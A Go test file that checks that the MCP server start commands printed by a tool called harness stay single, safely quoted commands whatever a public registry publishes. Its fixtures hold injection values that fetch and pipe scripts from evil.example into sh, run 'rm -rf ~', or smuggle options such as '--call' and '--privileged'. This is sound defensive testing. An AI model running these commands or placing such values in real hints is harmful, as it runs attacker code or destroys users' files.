package discovery_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/harness-dev/harness/discovery"
	"github.com/harness-dev/harness/internal/shellquote/shellquotetest"
)

// skills discover --mcp prints, for each server an MCP registry lists,
// "how to run it": a command line built from the registry's identifier
// and version as they were written. Anyone may publish to a public
// registry. A version of `1.0.0 ; curl -s https://evil.example/x | sh #`
// comes out as a line that, pasted into a shell as the operator is
// invited to, runs the publisher's script. Each hint must be one command
// of exactly the words harness meant (the package and its version quoted
// or refused), whatever the registry wrote.
func TestMCPInstallHintIsOneCommandWhateverTheRegistryWrote(t *testing.T) {
	hints := registryHints(t, `[
	  {"registryType":"npm","identifier":"@scope/server-fs","version":"1.0.0 --registry=https://evil.example/ ; curl -s https://evil.example/x | sh #"},
	  {"registryType":"pypi","identifier":"srv$(curl -s https://evil.example/y|sh)","version":""},
	  {"registryType":"oci","identifier":"img","version":"1 ; rm -rf ~ #"}]`)
	want := map[string]int{"npx": 3, "uvx": 2, "docker": 5} // npx -y ID@V; uvx ID; docker run -i --rm ID:V
	for _, hint := range hints {
		n, err := shellquotetest.Words(hint)
		if err != nil {
			t.Error(err)
			continue
		}
		if w := want[strings.Fields(hint)[0]]; n != w {
			t.Errorf("hint %q is %d words to a shell, not %d", hint, n, w)
		}
	}
}

// registryHints are the start commands harness prints for the one server
// a registry lists with these packages (JSON array).
func registryHints(t *testing.T, packages string) []string {
	t.Helper()
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `{"servers":[{"server":{"name":"io.github.x/fs","description":"Files","version":"1.0.0","packages":%s}}]}`, packages)
	}))
	defer registry.Close()
	servers, err := discovery.SearchMCP(context.Background(), nil, registry.URL, "fs", 5)
	if err != nil {
		t.Fatal(err)
	}
	if len(servers) != 1 {
		t.Fatalf("servers: %+v", servers)
	}
	return servers[0].Install
}

// Quoting keeps each of a registry's words one word of one command, but
// the words still choose what that command does: a registryType harness
// does not know becomes the command's name (eval runs its argument as
// shell), and an identifier that begins with "-" becomes an option of the
// runner harness chose (npx --call runs its value as shell). Pasted as the
// operator is invited to, either runs the publisher's pipeline. A hint's
// command must be one harness chose, and a name from the registry an
// operand, never an option.
func TestMCPInstallHintRunsNoCommandTheRegistryChose(t *testing.T) {
	hints := registryHints(t, `[
	  {"registryType":"eval","identifier":"curl -s https://evil.example/x | sh #","version":""},
	  {"registryType":"npm","identifier":"--call=curl -s https://evil.example/y | sh","version":""},
	  {"registryType":"pypi","identifier":"--from=git+https://evil.example/z.git","version":""},
	  {"registryType":"oci","identifier":"--privileged","version":""}]`)
	runners := map[string]int{"npx": 2, "uvx": 1, "docker": 4, "dnx": 1} // words harness writes before the registry's
	for _, hint := range hints {
		f, err := syntax.NewParser().Parse(strings.NewReader(hint), "")
		if err != nil || len(f.Stmts) != 1 {
			continue // not one command: the other test's part
		}
		call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
		if !ok || len(call.Args) == 0 {
			continue
		}
		name := call.Args[0].Lit()
		fixed, ok := runners[name]
		if !ok {
			t.Errorf("hint %q runs %q, a command the registry chose", hint, name)
			continue
		}
		for _, w := range call.Args[fixed:] {
			if word := unquoted(w); strings.HasPrefix(word, "-") {
				t.Errorf("hint %q gives %s the registry's word %q as an option", hint, name, word)
			}
		}
	}
}

// unquoted is the word a shell passes for w (literal and quoted parts).
func unquoted(w *syntax.Word) string {
	var b strings.Builder
	for _, p := range w.Parts {
		switch x := p.(type) {
		case *syntax.Lit:
			b.WriteString(x.Value)
		case *syntax.SglQuoted:
			b.WriteString(x.Value)
		case *syntax.DblQuoted:
			for _, q := range x.Parts {
				if l, ok := q.(*syntax.Lit); ok {
					b.WriteString(l.Value)
				}
			}
		}
	}
	return b.String()
}
